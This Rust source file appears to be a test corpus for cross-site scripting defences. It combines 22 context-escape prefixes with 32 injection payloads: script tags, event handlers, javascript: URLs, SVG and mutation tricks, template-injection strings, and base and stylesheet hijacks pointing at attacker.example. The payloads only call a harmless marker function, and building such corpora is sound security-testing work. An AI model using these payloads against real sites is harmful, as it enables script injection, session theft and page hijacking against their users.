//! Text that is a program to whoever shows it without care: every way out of where it stands, with every way to run.

/// What ends the place in which a text may have been put.
pub const WAYS_OUT: [&str; 22] = [
    "",
    "\"",
    "'",
    "\">",
    "'>",
    "`>",
    " ",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</noscript>",
    "</select>",
    "</option></select>",
    "</td></tr></table>",
    "</svg>",
    "\\\"",
    "\"}]};",
    "\u{202e}\">",
    "&#34;&gt;",
];

/// What runs where it is taken for more than text.
const PROGRAMS: [&str; 32] = [
    "<script>ran('script')</script>",
    "<ScRiPt >ran('case')</sCrIpT>",
    "<script src=data:text/javascript,ran('data')></script>",
    "<script/x>ran('slash')</script>",
    "<img src=x onerror=ran('img')>",
    "<img src=x\nonerror\n=\nran('lines')>",
    "<img src=x:x onerror&#61;ran('entity')>",
    "<IMG SRC=javascript:ran('src')>",
    "<svg onload=ran('svg')>",
    "<svg/onload=ran('svg-slash')>",
    "<svg><script>ran('svg-script')</script></svg>",
    "<svg><animate onbegin=ran('animate') attributeName=x dur=1s>",
    "<math><mtext><style><img src=x onerror=ran('math')></style>",
    "<iframe src=javascript:ran('iframe')></iframe>",
    "<iframe srcdoc='<script>parent.ran(1)</script>'></iframe>",
    "<object data=javascript:ran('object')></object>",
    "<embed src=data:text/html,<script>ran(1)</script>>",
    "<details open ontoggle=ran('details')>",
    "<video><source onerror=ran('video')></video>",
    "<audio src=x onerror=ran('audio')></audio>",
    "<body onload=ran('body')>",
    "<input autofocus onfocus=ran('focus')>",
    "<select autofocus onfocus=ran('select')></select>",
    "<a href=javascript:ran('link')>link</a>",
    "<form action=javascript:ran('form')><button>send</button></form>",
    "<base href=//attacker.example/>",
    "<link rel=stylesheet href=//attacker.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:ran(1)'>",
    "<style>@import url(//attacker.example/x.css);*{color:red}</style>",
    " onmouseover=ran('hover') autofocus onfocus=ran('focus') x=",
    "javascript:ran('address')//",
    "{{constructor.constructor('ran(1)')()}}${ran(2)}<%= ran(3) %>",
];

/// Every one of them.
pub fn corpus() -> Vec<String> {
    let of_way = |way: &str| PROGRAMS.map(|program| format!("{way}{program}"));
    WAYS_OUT.into_iter().flat_map(of_way).collect()
}
